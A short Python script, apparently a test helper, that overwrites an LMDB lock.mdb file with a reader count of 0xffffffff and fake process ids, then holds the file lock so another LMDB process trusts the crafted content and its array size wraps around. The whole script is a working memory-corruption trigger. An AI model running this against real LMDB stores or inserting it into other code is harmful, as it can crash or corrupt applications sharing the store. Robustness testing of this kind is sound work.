#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Usage: hostile-lock.py LOCK_MDB read|write, as root: it becomes the user who owns the file. That user holds byte 0
of the lock.mdb of a store, so LMDB in another process takes the content of the file for that of a live environment: a
number of readers that makes the size of an array wrap around, and process ids that are written behind that array. With
`write` LMDB waits for the lock.

Prints a line when all is in place, and stays until its standard input ends.
"""
import fcntl
import os
import struct
import sys

READERS_COUNT = 0x38  # of LMDB 0.9: mti_numreaders, then the table of readers, one a cache line
TABLE, SLOT, PID = 0x80, 64, 8

owner = os.stat(sys.argv[1])
os.setgroups([])
os.setgid(owner.st_gid)
os.setuid(owner.st_uid)
with open(sys.argv[1], "r+b") as file:
    size = os.fstat(file.fileno()).st_size
    for at in range(TABLE, size - SLOT + 1, SLOT):
        file.seek(at + PID)
        file.write(struct.pack("=I", 1000000 + at))
    file.seek(READERS_COUNT)
    file.write(struct.pack("=I", 0xffffffff))
    file.flush()
    fcntl.lockf(file, fcntl.LOCK_SH if sys.argv[2] == "read" else fcntl.LOCK_EX, 1, 0)
    print("ready", flush=True)
    sys.stdin.read()
